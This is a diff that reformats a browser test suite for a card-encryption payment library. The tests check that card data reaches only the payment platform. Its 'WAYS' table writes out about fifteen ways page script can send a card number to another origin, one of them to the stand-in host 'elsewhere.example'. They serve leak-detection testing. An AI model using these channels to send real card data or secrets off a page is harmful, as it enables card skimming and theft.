@@ -11,7 +11,21 @@ import http from 'node:http';
 import net from 'node:net';
 import path from 'node:path';
 import { after, before, test } from 'node:test';
-import { CC_VISA, GP_DECLINED, GP_VISA, NO_MONEY, VISA, found, leaks, pause, root, startAll, typeCard, typeCustomer, until } from './harness.mjs';
+import {
+  CC_VISA,
+  found,
+  GP_DECLINED,
+  GP_VISA,
+  leaks,
+  NO_MONEY,
+  pause,
+  root,
+  startAll,
+  typeCard,
+  typeCustomer,
+  until,
+  VISA,
+} from './harness.mjs';
 
 /** A proxy that writes down what goes through it. It passes on what is for this machine, and refuses the rest. */
 async function startProxy() {
@@ -23,7 +37,12 @@ async function startProxy() {
     request.on('data', (chunk) => chunks.push(chunk));
     request.on('end', () => {
       const body = Buffer.concat(chunks);
-      requests.push({ method: request.method, url: request.url, headers: request.rawHeaders.join('\n'), body: body.toString('latin1') });
+      requests.push({
+        method: request.method,
+        url: request.url,
+        headers: request.rawHeaders.join('\n'),
+        body: body.toString('latin1'),
+      });
       const to = new URL(request.url);
       if (!local(to.hostname)) return response.writeHead(502).end();
       const onward = http.request(to, { method: request.method, headers: request.headers }, (answer) => {
@@ -42,7 +61,9 @@ async function startProxy() {
     if (!local(host)) return socket.end('HTTP/1.1 502 Bad Gateway\r\n\r\n');
     const onward = net.connect(Number(port), host, () => {
       socket.write('HTTP/1.1 200 Connection Established\r\n\r\n');
-      socket.on('data', (chunk) => { record.body += chunk.toString('latin1'); });
+      socket.on('data', (chunk) => {
+        record.body += chunk.toString('latin1');
+      });
       socket.pipe(onward).pipe(socket);
     });
     for (const end of [socket, onward]) sockets.add(end);
@@ -62,7 +83,9 @@ async function startProxy() {
   };
 }
 
-const { key: { kid, jwk } } = JSON.parse(readFileSync(path.join(root, 'tests/vectors/sealing.json'), 'utf8'));
+const {
+  key: { kid, jwk },
+} = JSON.parse(readFileSync(path.join(root, 'tests/vectors/sealing.json'), 'utf8'));
 const SEAL = { kid, alg: 'ECDH-ES', enc: 'A256GCM', key: { kty: 'EC', crv: 'P-256', x: jwk.x, y: jwk.y } };
 
 let all;
@@ -73,9 +96,17 @@ before(async () => {
   all = await startAll({ platforms: ['greenpay', 'gp_api', 'online_payments', 'ccbill'] });
   proxy = await startProxy();
   // Another origin, which says yes to everything and whose page listens to messages.
-  other = http.createServer((request, response) => {
-    response.writeHead(200, { 'content-type': 'text/html', 'access-control-allow-origin': '*', 'access-control-allow-headers': '*' }).end('<!doctype html>other');
-  }).listen(0, '127.0.0.1');
+  other = http
+    .createServer((request, response) => {
+      response
+        .writeHead(200, {
+          'content-type': 'text/html',
+          'access-control-allow-origin': '*',
+          'access-control-allow-headers': '*',
+        })
+        .end('<!doctype html>other');
+    })
+    .listen(0, '127.0.0.1');
   await once(other, 'listening');
   other.origin = `http://127.0.0.1:${other.address().port}`;
 });
@@ -92,18 +123,35 @@ async function watched(body, { path = '/', ready = true } = {}) {
   const told = [];
   const { page, context, close } = await all.open({ proxy: { server: proxy.url }, ready: false });
   try {
-    await context.exposeBinding('__arrived', (_, text) => { told.push({ method: 'message', url: 'to another origin', headers: '', body: text }); });
+    await context.exposeBinding('__arrived', (_, text) => {
+      told.push({ method: 'message', url: 'to another origin', headers: '', body: text });
+    });
     await context.addInitScript(() => {
-      addEventListener('message', ({ data, origin }) => { if (origin !== location.origin) globalThis.__arrived(JSON.stringify(data)); });
+      addEventListener('message', ({ data, origin }) => {
+        if (origin !== location.origin) globalThis.__arrived(JSON.stringify(data));
+      });
     });
     const cdp = await context.newCDPSession(page);
     cdp.on('Network.requestWillBeSent', ({ requestId, request }) => {
-      const record = { method: request.method, url: request.url + (request.urlFragment ?? ''), headers: JSON.stringify(request.headers), body: request.postData ?? '' };
+      const record = {
+        method: request.method,
+        url: request.url + (request.urlFragment ?? ''),
+        headers: JSON.stringify(request.headers),
+        body: request.postData ?? '',
+      };
       told.push(record);
-      if (request.hasPostData && !request.postData) cdp.send('Network.getRequestPostData', { requestId }).then(({ postData }) => { record.body = postData; }, () => {});
+      if (request.hasPostData && !request.postData)
+        cdp.send('Network.getRequestPostData', { requestId }).then(
+          ({ postData }) => {
+            record.body = postData;
+          },
+          () => {},
+        );
     });
     cdp.on('Network.webSocketCreated', ({ url }) => told.push({ method: 'WebSocket', url, headers: '', body: '' }));
-    cdp.on('Network.webSocketFrameSent', ({ response }) => told.push({ method: 'WebSocket', url: 'frame', headers: '', body: response.payloadData }));
+    cdp.on('Network.webSocketFrameSent', ({ response }) =>
+      told.push({ method: 'WebSocket', url: 'frame', headers: '', body: response.payloadData }),
+    );
     await cdp.send('Network.enable');
     await page.goto(all.url + path);
     if (ready) await page.waitForSelector('#pay-form[data-ready]');
@@ -115,20 +163,44 @@ async function watched(body, { path = '/', ready = true } = {}) {
   }
 }
 
-const own = (html = '') => { all.front.pages['/egress.html'] = `<!doctype html><meta charset="utf-8"><title>own</title><link rel="icon" href="data:,">${html}`; };
+const own = (html = '') => {
+  all.front.pages['/egress.html'] =
+    `<!doctype html><meta charset="utf-8"><title>own</title><link rel="icon" href="data:,">${html}`;
+};
 const OWN = { path: '/egress.html', ready: false };
 
 // ---------------------------------------------------------------------------------------- the recorder sees
 
 const WAYS = {
-  fetch: (number, origin) => { fetch(`${origin}/x`, { method: 'POST', body: number }).catch(() => {}); },
-  'fetch in a header': (number, origin) => { fetch(`${origin}/x`, { headers: { 'x-note': number } }).catch(() => {}); },
-  XMLHttpRequest: (number, origin) => { const request = new XMLHttpRequest(); request.open('POST', `${origin}/x`); request.send(number); },
-  sendBeacon: (number, origin) => { navigator.sendBeacon(`${origin}/x`, number); },
-  'an image': (number, origin) => { new Image().src = `${origin}/x?${number}`; },
-  'a style sheet': (number, origin) => { document.head.append(Object.assign(document.createElement('link'), { rel: 'stylesheet', href: `${origin}/${number}` })); },
-  'a script': (number, origin) => { document.head.append(Object.assign(document.createElement('script'), { src: `${origin}/${number}` })); },
-  'a link': (number, origin) => { document.body.append(Object.assign(document.createElement('a'), { href: `${origin}/${number}`, id: 'a' })); document.getElementById('a').click(); },
+  fetch: (number, origin) => {
+    fetch(`${origin}/x`, { method: 'POST', body: number }).catch(() => {});
+  },
+  'fetch in a header': (number, origin) => {
+    fetch(`${origin}/x`, { headers: { 'x-note': number } }).catch(() => {});
+  },
+  XMLHttpRequest: (number, origin) => {
+    const request = new XMLHttpRequest();
+    request.open('POST', `${origin}/x`);
+    request.send(number);
+  },
+  sendBeacon: (number, origin) => {
+    navigator.sendBeacon(`${origin}/x`, number);
+  },
+  'an image': (number, origin) => {
+    new Image().src = `${origin}/x?${number}`;
+  },
+  'a style sheet': (number, origin) => {
+    document.head.append(
+      Object.assign(document.createElement('link'), { rel: 'stylesheet', href: `${origin}/${number}` }),
+    );
+  },
+  'a script': (number, origin) => {
+    document.head.append(Object.assign(document.createElement('script'), { src: `${origin}/${number}` }));
+  },
+  'a link': (number, origin) => {
+    document.body.append(Object.assign(document.createElement('a'), { href: `${origin}/${number}`, id: 'a' }));
+    document.getElementById('a').click();
+  },
   'a form': (number, origin) => {
     const form = Object.assign(document.createElement('form'), { method: 'post', action: `${origin}/x` });
     form.append(Object.assign(document.createElement('input'), { name: 'n', value: number }));
@@ -141,16 +213,28 @@ const WAYS = {
     document.body.append(form);
     form.submit();
   },
-  'a frame': (number, origin) => { document.body.append(Object.assign(document.createElement('iframe'), { src: `${origin}/?${number}` })); },
+  'a frame': (number, origin) => {
+    document.body.append(Object.assign(document.createElement('iframe'), { src: `${origin}/?${number}` }));
+  },
   'a message to another origin': (number, origin) => {
     const frame = Object.assign(document.createElement('iframe'), { src: `${origin}/` });
     frame.onload = () => frame.contentWindow.postMessage({ deep: [number] }, '*');
     document.body.append(frame);
   },
-  'a WebSocket': (number, origin) => { new WebSocket(`${origin.replace('http', 'ws')}/${number}`).onerror = () => {}; },
-  EventSource: (number, origin) => { new EventSource(`${origin}/${number}`); },
-  'a worker\'s fetch': (number, origin) => { new Worker(URL.createObjectURL(new Blob([`fetch('${origin}/x', { method: 'POST', body: '${number}' }).catch(() => {})`]))); },
-  'a host that is not of this machine': (number) => { fetch(`http://elsewhere.example/x?${number}`, { mode: 'no-cors' }).catch(() => {}); },
+  'a WebSocket': (number, origin) => {
+    new WebSocket(`${origin.replace('http', 'ws')}/${number}`).onerror = () => {};
+  },
+  EventSource: (number, origin) => {
+    new EventSource(`${origin}/${number}`);
+  },
+  "a worker's fetch": (number, origin) => {
+    new Worker(
+      URL.createObjectURL(new Blob([`fetch('${origin}/x', { method: 'POST', body: '${number}' }).catch(() => {})`])),
+    );
+  },
+  'a host that is not of this machine': (number) => {
+    fetch(`http://elsewhere.example/x?${number}`, { mode: 'no-cors' }).catch(() => {});
+  },
 };
 
 for (const [name, way] of Object.entries(WAYS)) {
@@ -158,7 +242,11 @@ for (const [name, way] of Object.entries(WAYS)) {
     own('<body>');
     await watched(async ({ page, out }) => {
       assert.deepEqual(leaks(out(), VISA), []);
-      await page.evaluate(({ way, number, origin }) => (0, eval)(`(${way})`)(number, origin), { way: String(way), number: VISA.number, origin: other.origin });
+      await page.evaluate(({ way, number, origin }) => (0, eval)(`(${way})`)(number, origin), {
+        way: String(way),
+        number: VISA.number,
+        origin: other.origin,
+      });
       await until('the leak', () => leaks(out(), VISA).length > 0);
     }, OWN);
   });
@@ -175,7 +263,10 @@ for (const way of ['relay', 'direct']) {
         await typeCard(page, card);
         await page.click('#pay');
         await page.waitForSelector('#result:not([hidden]), #notice.notice-bad');
-        assert.ok(out().some(({ body }) => body.includes('"ld"')), 'a sealed card went out');
+        assert.ok(
+          out().some(({ body }) => body.includes('"ld"')),
+          'a sealed card went out',
+        );
         assert.deepEqual(leaks(out(), card), []);
       });
     }
@@ -183,19 +274,29 @@ for (const way of ['relay', 'direct']) {
 }
 
 /** Where a platform wants the card in clear. */
-const wantsCards = ({ method, url }) => method === 'POST' && [
-  `${all.gp.url}/payment-methods`, ...['', '-verify'].map((end) => `${all.wire.ccbill.base_url.url}/payment-tokens/merchant-only${end}`),
-].includes(url);
+const wantsCards = ({ method, url }) =>
+  method === 'POST' &&
+  [
+    `${all.gp.url}/payment-methods`,
+    ...['', '-verify'].map((end) => `${all.wire.ccbill.base_url.url}/payment-tokens/merchant-only${end}`),
+  ].includes(url);
 
 /** What holds the card goes to the platform's one address, the rest holds nothing. */
 function onlyToThePlatform(records, card) {
   const sealed = records.filter(wantsCards);
-  assert.deepEqual(leaks(records.filter((record) => !wantsCards(record)), card), []);
-  for (const { url, headers } of sealed) assert.deepEqual(leaks([{ method: 'POST', url, headers, body: '' }], card), []);
+  assert.deepEqual(
+    leaks(
+      records.filter((record) => !wantsCards(record)),
+      card,
+    ),
+    [],
+  );
+  for (const { url, headers } of sealed)
+    assert.deepEqual(leaks([{ method: 'POST', url, headers, body: '' }], card), []);
   return sealed.filter(({ body }) => found(body, card.number).length > 0).length;
 }
 
-test('GP API: the card goes to the platform\'s host and nowhere else', async () => {
+test("GP API: the card goes to the platform's host and nowhere else", async () => {
   for (const card of [GP_VISA, GP_DECLINED]) {
     await watched(async ({ page, out }) => {
       await page.check('#platform-gp_api');
@@ -210,7 +311,11 @@ test('GP API: the card goes to the platform\'s host and nowhere else', async () 
 
 const WORLDLINE = { number: '4012000033330026', expiry: '1230', cvc: '739', holder: 'Zoë Müller' };
 
-for (const [what, card, save] of [['stored', WORLDLINE, true], ['charged once', WORLDLINE, false], ['declined', { ...WORLDLINE, number: '4000000000000002' }, true]]) {
+for (const [what, card, save] of [
+  ['stored', WORLDLINE, true],
+  ['charged once', WORLDLINE, false],
+  ['declined', { ...WORLDLINE, number: '4000000000000002' }, true],
+]) {
   test(`Online Payments, ${what}: nothing of the card leaves the page in clear but its first eight digits`, async () => {
     await watched(async ({ page, out }) => {
       await page.check('#platform-online_payments');
@@ -219,30 +324,58 @@ for (const [what, card, save] of [['stored', WORLDLINE, true], ['charged once', 
       await page.click('#pay');
       await page.waitForSelector('#result:not([hidden]), #notice.notice-bad');
       const sent = out();
-      assert.ok(sent.some(({ body }) => body.includes('"encrypted_customer_input"')), 'a sealed card went out');
+      assert.ok(
+        sent.some(({ body }) => body.includes('"encrypted_customer_input"')),
+        'a sealed card went out',
+      );
       assert.deepEqual(leaks(sent, card), []);
-      for (const { url, headers, body } of sent) assert.deepEqual(found([url, headers, body].join('\n'), card.number.slice(0, 9)), [], url);
+      for (const { url, headers, body } of sent)
+        assert.deepEqual(found([url, headers, body].join('\n'), card.number.slice(0, 9)), [], url);
       // Of the shop, only the sealed card; the digits go to the platform.
       const digits = sent.filter(({ body }) => body.includes(card.number.slice(0, 8)));
-      assert.ok(digits.length > 0 && digits.every(({ url }) => url.endsWith('/services/getIINdetails') && url.startsWith(all.sandbox.of('online_payments').base_url)), digits.map(({ url }) => url).join());
+      assert.ok(
+        digits.length > 0 &&
+          digits.every(
+            ({ url }) =>
+              url.endsWith('/services/getIINdetails') && url.startsWith(all.sandbox.of('online_payments').base_url),
+          ),
+        digits.map(({ url }) => url).join(),
+      );
     });
   });
 }
 
 /** On a page of the platform's, in this window or in a frame; what was typed goes to its host, and nothing else anywhere. */
 async function typedThere(records, place, path) {
-  for (const [name, text] of [['cardNumber', WORLDLINE.number], ['cardholderName', WORLDLINE.holder], ['expiryDate', '12/30'], ['cvv', WORLDLINE.cvc]]) {
+  for (const [name, text] of [
+    ['cardNumber', WORLDLINE.number],
+    ['cardholderName', WORLDLINE.holder],
+    ['expiryDate', '12/30'],
+    ['cvv', WORLDLINE.cvc],
+  ]) {
     await place.locator(`[name=${name}]`).fill(text);
   }
-  const there = ({ method, url }) => method === 'POST' && new URL(url).pathname.startsWith(path) && url.startsWith(all.sandbox.of('online_payments').base_url);
+  const there = ({ method, url }) =>
+    method === 'POST' &&
+    new URL(url).pathname.startsWith(path) &&
+    url.startsWith(all.sandbox.of('online_payments').base_url);
   return () => {
     const sent = records();
-    assert.ok(sent.some((record) => there(record) && found(record.body, WORLDLINE.number).length > 0), 'the platform got the card');
-    assert.deepEqual(leaks(sent.filter((record) => !there(record)), WORLDLINE), []);
+    assert.ok(
+      sent.some((record) => there(record) && found(record.body, WORLDLINE.number).length > 0),
+      'the platform got the card',
+    );
+    assert.deepEqual(
+      leaks(
+        sent.filter((record) => !there(record)),
+        WORLDLINE,
+      ),
+      [],
+    );
   };
 }
 
-test('Online Payments, the platform\'s own page: the card goes there and nowhere else', async () => {
+test("Online Payments, the platform's own page: the card goes there and nowhere else", async () => {
   await watched(async ({ page, out }) => {
     await page.check('#platform-online_payments');
     await page.check('#way-page');
@@ -257,7 +390,7 @@ test('Online Payments, the platform\'s own page: the card goes there and nowhere
   });
 });
 
-test('Online Payments, the platform\'s form in a frame: the card goes there and nowhere else', async () => {
+test("Online Payments, the platform's form in a frame: the card goes there and nowhere else", async () => {
   await watched(async ({ page, out }) => {
     await page.check('#platform-online_payments');
     await page.check('#way-frame');
@@ -269,8 +402,14 @@ test('Online Payments, the platform\'s form in a frame: the card goes there and 
   });
 });
 
-test('CCBill: the card goes to the platform\'s host and nowhere else, in whatever way it is paid', async () => {
-  for (const [save, currency, amount, answer] of [[true, 'USD', '24.50'], [true, 'USD', '24.31'], [false, 'USD', '24.50'], [false, 'EUR', '22.50', '#ask-yes'], [false, 'EUR', '22.50', '#ask-no']]) {
+test("CCBill: the card goes to the platform's host and nowhere else, in whatever way it is paid", async () => {
+  for (const [save, currency, amount, answer] of [
+    [true, 'USD', '24.50'],
+    [true, 'USD', '24.31'],
+    [false, 'USD', '24.50'],
+    [false, 'EUR', '22.50', '#ask-yes'],
+    [false, 'EUR', '22.50', '#ask-no'],
+  ]) {
     await watched(async ({ page, out }) => {
       await page.check('#platform-ccbill');
       await page.setChecked('#save-card', save);
@@ -285,7 +424,8 @@ test('CCBill: the card goes to the platform\'s host and nowhere else, in whateve
       // What the format has of a card in an address: its first six digits and its last four.
       const asked = out().filter(({ method, url }) => method === 'GET' && url.includes('/threeds-required'));
       assert.equal(asked.length, save ? 0 : 2);
-      for (const { url } of asked) assert.match(url, /\?bin=447370&last4=3598&clientAccnum=\d+&clientSubacc=1&currencyCode=\d+$/);
+      for (const { url } of asked)
+        assert.match(url, /\?bin=447370&last4=3598&clientAccnum=\d+&clientSubacc=1&currencyCode=\d+$/);
     });
   }
 });
@@ -311,15 +451,30 @@ async function everything({ entry, key, seal, card, other: origin, gp, op, pay, 
   const dead = new cardseal.GreenPay({ publicKey: key, environment: { checkout: 'http://127.0.0.1:1' } });
   const gpApi = new cardseal.GpApi();
   const acquiring = new cardseal.WorldlineAcquiring();
-  const relay = (kind, more) => ({ id: 'ses_00112233445566778899aabbccddeeff', platform: 'greenpay', kind, mode: 'relay', created_at: new Date().toISOString(), expires_at: new Date(Date.now() + 600_000).toISOString(), ...more });
+  const relay = (kind, more) => ({
+    id: 'ses_00112233445566778899aabbccddeeff',
+    platform: 'greenpay',
+    kind,
+    mode: 'relay',
+    created_at: new Date().toISOString(),
+    expires_at: new Date(Date.now() + 600_000).toISOString(),
+    ...more,
+  });
   const own = (kind, more) => relay(kind, { platform: 'worldline_acquiring', seal, ...more });
   const ccbill = new cardseal.CcBill();
   const front = { access_token: 't', base_url: cc, client_accnum: 900684, client_subacc: 0, currency_code: 978 };
-  const customer = { firstName: 'Ana', lastName: 'Mora', email: 'ana@shop.example', postalCode: '85281', country: 'US' };
+  const customer = {
+    firstName: 'Ana',
+    lastName: 'Mora',
+    email: 'ana@shop.example',
+    postalCode: '85281',
+    country: 'US',
+  };
 
   await attempt('validate', () => cardseal.validateCard(card));
   await attempt('brands', () => cardseal.candidateBrands(card.number));
-  for (let at = 1; at <= card.number.length; at++) await attempt('format', () => cardseal.formatCardNumber(card.number.slice(0, at), at));
+  for (let at = 1; at <= card.number.length; at++)
+    await attempt('format', () => cardseal.formatCardNumber(card.number.slice(0, at), at));
   await attempt('unknown session', () => greenpay.tokenize(relay('tokenize'), card));
   await attempt('unknown payment', () => greenpay.pay(relay('payment'), card));
   await attempt('not the platform', () => greenpay.tokenize(order, card));
@@ -336,16 +491,27 @@ async function everything({ entry, key, seal, card, other: origin, gp, op, pay, 
   await attempt('gp: another kind', () => gpApi.tokenize(relay('tokenize'), card));
   await attempt('acquiring: unknown session', () => acquiring.tokenize(own('tokenize'), card));
   await attempt('acquiring: unknown payment', () => acquiring.pay(own('payment'), card));
-  await attempt('acquiring: a network token', () => acquiring.pay(own('payment'), { ...card, cvc: '' }, { networkToken: { cryptogram: 'AgAA' } }));
-  await attempt('acquiring: a wrong key', () => acquiring.pay(own('payment', { seal: { ...seal, key: { ...seal.key, y: seal.key.x } } }), card));
-  await attempt('acquiring: a number for a session', () => acquiring.pay(own('payment', { id: `${card.number} ` }), card));
-  await attempt('acquiring: a number for a cryptogram', () => acquiring.pay(own('payment'), card, { networkToken: { cryptogram: `${card.number} ` } }));
-  await attempt('acquiring: too late', () => acquiring.pay(own('payment', { expires_at: new Date(0).toISOString() }), card));
+  await attempt('acquiring: a network token', () =>
+    acquiring.pay(own('payment'), { ...card, cvc: '' }, { networkToken: { cryptogram: 'AgAA' } }),
+  );
+  await attempt('acquiring: a wrong key', () =>
+    acquiring.pay(own('payment', { seal: { ...seal, key: { ...seal.key, y: seal.key.x } } }), card),
+  );
+  await attempt('acquiring: a number for a session', () =>
+    acquiring.pay(own('payment', { id: `${card.number} ` }), card),
+  );
+  await attempt('acquiring: a number for a cryptogram', () =>
+    acquiring.pay(own('payment'), card, { networkToken: { cryptogram: `${card.number} ` } }),
+  );
+  await attempt('acquiring: too late', () =>
+    acquiring.pay(own('payment', { expires_at: new Date(0).toISOString() }), card),
+  );
   const online = new cardseal.OnlinePayments();
   const context = { countryCode: 'DE', currencyCode: 'EUR', amount: 1000 };
   const known = { paymentProductId: 1 };
   await attempt('op: first digits', () => online.iinDetails(op, card.number, context));
-  for (let at = 1; at <= card.number.length; at++) await online.iinDetailsRequest(op, card.number.slice(0, at), context);
+  for (let at = 1; at <= card.number.length; at++)
+    await online.iinDetailsRequest(op, card.number.slice(0, at), context);
   await attempt('op: sealed', () => online.encrypt(op, card, { kind: 'tokenize', context }));
   await attempt('op: stored', () => online.tokenize(op, card, { context }));
   await attempt('op: charged', () => online.pay(pay, card, { context, idempotencyKey: 'k-1' }));
@@ -356,18 +522,42 @@ async function everything({ entry, key, seal, card, other: origin, gp, op, pay, 
   await attempt('op: aborted', () => online.encrypt({ ...op, customerId: 'x' }, card, { signal: AbortSignal.abort() }));
   await attempt('op: a wrong card', () => online.encrypt(op, { ...card, number: `${card.number}0` }, { context }));
   await attempt('op: a number for a name', () => online.encrypt(op, { ...card, holder: card.number }, { context }));
-  await attempt('op: a number for a session', () => online.encrypt({ ...op, clientSessionId: `${card.number}/..` }, card, known));
-  await attempt('op: a number for a country', () => online.encrypt(op, card, { context: { countryCode: card.number } }));
+  await attempt('op: a number for a session', () =>
+    online.encrypt({ ...op, clientSessionId: `${card.number}/..` }, card, known),
+  );
+  await attempt('op: a number for a country', () =>
+    online.encrypt(op, card, { context: { countryCode: card.number } }),
+  );
   await attempt('op: not back yet', () => online.confirmPayment(pay, { RETURNMAC: '' }));
   await attempt('cc: wrong token', () => ccbill.createPaymentToken(front, card, { customer }));
   await attempt('cc: wrong token, no check', () => ccbill.createPaymentToken(front, card, { customer, verify: false }));
   await attempt('cc: is it needed', () => ccbill.threeDsRequired(front, card));
   await attempt('cc: a wrong card', () => ccbill.createPaymentToken(front, { ...card, cvc: '' }, { customer }));
-  await attempt('cc: a number for a customer', () => ccbill.createPaymentToken(front, card, { customer: { ...customer, lastName: card.number, email: card.number, address1: card.number } }));
-  await attempt('cc: a number for a sale', () => ccbill.createPaymentToken(front, card, { customer, subscriptionId: card.number }));
-  await attempt('cc: no platform', () => ccbill.createPaymentToken({ ...front, base_url: 'http://127.0.0.1:1' }, { ...card, number: '1' }, { customer }));
-  await attempt('cc: more than is asked for', () => ccbill.confirmPayment({ id: 'ses_00112233445566778899aabbccddeeff', ...front, amount: '1' }, { paymentToken: { paymentTokenId: '01ab', clientAccnum: 900684, clientSubacc: 0, card }, threedsInformation: {
-    status: 'N', success: false, card, error: card.number } }));
+  await attempt('cc: a number for a customer', () =>
+    ccbill.createPaymentToken(front, card, {
+      customer: { ...customer, lastName: card.number, email: card.number, address1: card.number },
+    }),
+  );
+  await attempt('cc: a number for a sale', () =>
+    ccbill.createPaymentToken(front, card, { customer, subscriptionId: card.number }),
+  );
+  await attempt('cc: no platform', () =>
+    ccbill.createPaymentToken({ ...front, base_url: 'http://127.0.0.1:1' }, { ...card, number: '1' }, { customer }),
+  );
+  await attempt('cc: more than is asked for', () =>
+    ccbill.confirmPayment(
+      { id: 'ses_00112233445566778899aabbccddeeff', ...front, amount: '1' },
+      {
+        paymentToken: { paymentTokenId: '01ab', clientAccnum: 900684, clientSubacc: 0, card },
+        threedsInformation: {
+          status: 'N',
+          success: false,
+          card,
+          error: card.number,
+        },
+      },
+    ),
+  );
   await attempt('confirm', () => greenpay.confirmToken(relay('tokenize'), { raw: { status: 201, requestId: 'x' } }));
   if (cardseal.terminate) cardseal.terminate();
   return said;
@@ -378,31 +568,66 @@ for (const entry of ['index', 'inline', 'worker']) {
     own(`<body><iframe src="${other.origin}/"></iframe>`);
     const card = { number: '4716108999716531', expiry: '12/30', cvc: '739', holder: 'Ana Maria', nickname: 'My Visa' };
     await watched(async ({ page, out }) => {
-      const key = (await (await fetch(`${all.server.url}/v1/sessions`, {
-        method: 'POST', headers: { 'content-type': 'application/json', origin: all.url }, body: JSON.stringify({ platform: 'greenpay', kind: 'tokenize' }),
-      })).json()).public_key;
-      assert.ok(key, 'the shop\'s key');
-      const worldline = async (body, headers) => (await fetch(`${all.server.url}/v1/sessions`, {
-        method: 'POST', headers: { 'content-type': 'application/json', ...headers }, body: JSON.stringify({ platform: 'online_payments', ...body }),
-      })).json();
+      const key = (
+        await (
+          await fetch(`${all.server.url}/v1/sessions`, {
+            method: 'POST',
+            headers: { 'content-type': 'application/json', origin: all.url },
+            body: JSON.stringify({ platform: 'greenpay', kind: 'tokenize' }),
+          })
+        ).json()
+      ).public_key;
+      assert.ok(key, "the shop's key");
+      const worldline = async (body, headers) =>
+        (
+          await fetch(`${all.server.url}/v1/sessions`, {
+            method: 'POST',
+            headers: { 'content-type': 'application/json', ...headers },
+            body: JSON.stringify({ platform: 'online_payments', ...body }),
+          })
+        ).json();
       const op = await worldline({ kind: 'tokenize' }, { origin: all.url });
-      const pay = await worldline({ kind: 'payment', amount: '10.00', currency: 'EUR' }, { authorization: `Bearer ${all.server.apiKey}` });
+      const pay = await worldline(
+        { kind: 'payment', amount: '10.00', currency: 'EUR' },
+        { authorization: `Bearer ${all.server.apiKey}` },
+      );
       assert.ok(op.clientSessionId && pay.clientSessionId, JSON.stringify([op, pay]));
-      const said = await page.evaluate(({ everything, args }) => (0, eval)(`(${everything})`)(args), { everything: String(everything), args: { entry, key, seal: SEAL, card, other: other.origin, gp: all.gp.url, op, pay, cc: all.wire.ccbill.base_url.url } });
+      const said = await page.evaluate(({ everything, args }) => (0, eval)(`(${everything})`)(args), {
+        everything: String(everything),
+        args: {
+          entry,
+          key,
+          seal: SEAL,
+          card,
+          other: other.origin,
+          gp: all.gp.url,
+          op,
+          pay,
+          cc: all.wire.ccbill.base_url.url,
+        },
+      });
       assert.equal(said.filter((text) => text.endsWith(': done')).length, 2 + card.number.length + 4, said.join('\n'));
       await pause(300);
       const sent = out();
       // The worker keeps to the policy under which the server hands out its script, so that two of its requests stay away.
       assert.ok(sent.filter(({ body }) => body.includes('"ld"')).length >= 2, said.join('\n'));
       // Three are sealed, each seen at the proxy, and in the browser's log if a page sent it; what is refused is not.
-      assert.equal(sent.filter(({ body }) => body.includes('"sealed"')).length, entry === 'worker' ? 3 : 6, said.join('\n'));
+      assert.equal(
+        sent.filter(({ body }) => body.includes('"sealed"')).length,
+        entry === 'worker' ? 3 : 6,
+        said.join('\n'),
+      );
       assert.ok(onlyToThePlatform(sent, card) >= 1, said.join('\n'));
       for (const path of ['/v1/tokens', '/v1/payments']) {
-        assert.ok(sent.some(({ url, body }) => url === all.url + path && body.includes('"encrypted_customer_input"')), `${path}\n${said.join('\n')}`);
+        assert.ok(
+          sent.some(({ url, body }) => url === all.url + path && body.includes('"encrypted_customer_input"')),
+          `${path}\n${said.join('\n')}`,
+        );
       }
       // The platform looks up eight digits, and nobody else gets as many.
       for (const record of sent) {
-        if (!wantsCards(record)) assert.deepEqual(found(record.url + record.body, card.number.slice(0, 9)), [], record.url);
+        if (!wantsCards(record))
+          assert.deepEqual(found(record.url + record.body, card.number.slice(0, 9)), [], record.url);
       }
     }, OWN);
   });
@@ -412,7 +637,10 @@ test('a page that is left in the middle sends nothing more', async () => {
   await watched(async ({ page, out }) => {
     await page.check('#platform-greenpay');
     await typeCard(page, VISA);
-    await page.evaluate(() => { history.pushState({}, '', '#elsewhere'); dispatchEvent(new Event('pagehide')); });
+    await page.evaluate(() => {
+      history.pushState({}, '', '#elsewhere');
+      dispatchEvent(new Event('pagehide'));
+    });
     await page.goto(`${other.origin}/`);
     await pause(200);
     assert.deepEqual(leaks(out(), VISA), []);
